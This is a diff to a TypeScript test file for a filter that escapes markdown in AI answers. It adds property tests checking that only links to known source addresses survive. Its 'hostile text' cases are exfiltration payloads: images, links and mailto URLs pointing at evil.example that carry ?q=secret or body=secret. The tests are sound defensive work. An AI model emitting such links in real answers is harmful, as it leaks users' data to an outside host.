@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { parseMarkdown } from '../../../sync/merge/note-markdown';
 import { AnswerFilter, filtered } from './citations';
 
 const SOURCES = [
@@ -82,8 +83,13 @@ describe('a sentence without a citation', () => {
 
 describe('hostile text', () => {
   it.each([
-    ['![alt](https://evil.example/x.png?q=secret)', /^\[alt\]\(https:/],
-    ['Look!!![alt](https://evil.example/x.png)', /^Look\\!\[alt\]/],
+    ['![alt](https://evil.example/x.png?q=secret)', /^\[alt\\\]\(https\\:/],
+    ['[a](https://evil.example/?q=secret "b")', /^\[a\\\]\(https\\:/],
+    ['[a](<https://evil.example/?q=secret>)', /^\[a\\\]\(\\<https\\:/],
+    ['[a](mailto:a@evil.example?body=secret)', /^\[a\\\]\(mailto:/],
+    ['See https://evil.example/?q=secret.', /^See https\\:\/\/evil/],
+    ['<https://evil.example/?q=secret>', /^\\<https\\:/],
+    ['Look!!![alt](https://evil.example/x.png)', /^Look\\!\[alt\\\]/],
     ['Great! [[1: "budget is 5 million yen"]](https://evil.example/x.png)', /^Great!\[\^1\]\\\(https/],
     ['[[1: "budget is 5 million yen"]]: a footnote', /^\[\^1\]\\: a/],
     ['予算は五百万円です。(https://evil.example)', /です。\[\^\?\]\\\(https/],
@@ -101,15 +107,23 @@ describe('hostile text', () => {
     ['``[[9]]`![a](https://evil.example)`', /^\\`\\` `!\[a\]\(https:\/\/evil.example\)`/],
     ['[[9]]```\nx\n```\n![a](https://evil.example)\n```', /^\\`\\`\\`/],
     ['- ~~~\n  x\n  ~~~\n  ![a](https://evil.example)\n  ~~~', /^- \\~\\~\\~\[\^\?\]?|^- \\~/],
-    ['| `a | ![x](https://evil.example) ` |', /\| \[x\]\(https/],
-    ['- ```\n  ![x](https://evil.example)', /\n {2}\[x\]\(https/],
-    ['````\n```\n````\n![x](https://evil.example)', /\n\[x\]\(https/],
-    ['``` `x`\n![x](https://evil.example)', /\n\[x\]\(https/],
+    ['| `a | ![x](https://evil.example) ` |', /\| \[x\\\]\(https/],
+    ['- ```\n  ![x](https://evil.example)', /\n {2}\[x\\\]\(https/],
+    ['````\n```\n````\n![x](https://evil.example)', /\n\[x\\\]\(https/],
+    ['``` `x`\n![x](https://evil.example)', /\n\[x\\\]\(https/],
   ])('%j is made plain', (answer, expected) => expect(textOf(answer)).toMatch(expected));
 
-  it('keeps links of the web and of mail, and code', () => {
-    for (const text of ['[a](https://a.example/b)', '[a](mailto:a@b.example)', '`List<String>`', '```html\n<b>\n```'])
-      expect(textOf(text).replace('[^?]', '')).toBe(text);
+  it('keeps links to addresses that stand in sources or in what was asked, and code', () => {
+    const sources = [{ no: 1, text: 'Write to a@b.example.', url: 'https://a.example/b_(c)?d=e' }];
+    const linked = (text: string): string =>
+      filtered(text, sources, ['What is https://asked.example about?']).text.replace('[^?]', '');
+    expect(linked('[a](https://a.example/b_(c)?d=e "f")')).toBe('[a](<https://a.example/b_(c)?d=e>)');
+    expect(linked('[a](mailto:a@b.example)')).toBe('[a](<mailto:a@b.example>)');
+    expect(linked('See https://a.example/b_(c)?d=e, and (https://asked.example).')).toBe(
+      'See <https://a.example/b_(c)?d=e>, and (<https://asked.example>).',
+    );
+    expect(linked('See https://a.example/b_(c)?d=')).toBe('See https\\://a.example/b_(c)?d=');
+    for (const text of ['`List<String>`', '```html\n<b>https://evil.example/\n```']) expect(linked(text)).toBe(text);
   });
 
   it('is cut at the longest answer', () => {
@@ -118,6 +132,8 @@ describe('hostile text', () => {
     expect(filter.isFull).toBe(true);
   });
 });
+
+const KNOWN_ADDRESS = 'https://known.example/a';
 
 /** Text of tokens that mean something to the filter. */
 const tokens = fc
@@ -175,6 +191,11 @@ const tokens = fc
           '予算は',
           '五百万円です',
           'https://',
+          'http',
+          's://',
+          'mailto:',
+          'evil.example/?q=',
+          KNOWN_ADDRESS,
           'javascript:',
           'e.g',
           'No',
@@ -207,6 +228,18 @@ describe('any text', () => {
         expect(filter.citations).toEqual(whole.citations);
       }),
       { numRuns: 2000 },
+    );
+  });
+
+  it('has links to known addresses only', () => {
+    const sources = [...SOURCES, { no: 9, text: `More at ${KNOWN_ADDRESS}` }];
+    fc.assert(
+      fc.property(tokens, (text) => {
+        const document = parseMarkdown(filtered(text, sources).text);
+        const links = [...JSON.stringify(document).matchAll(/"link":"([^"]*)"/g)].map(([, href]) => href!);
+        for (const href of links) expect(href).toBe(KNOWN_ADDRESS);
+      }),
+      { numRuns: 5000 },
     );
   });
 
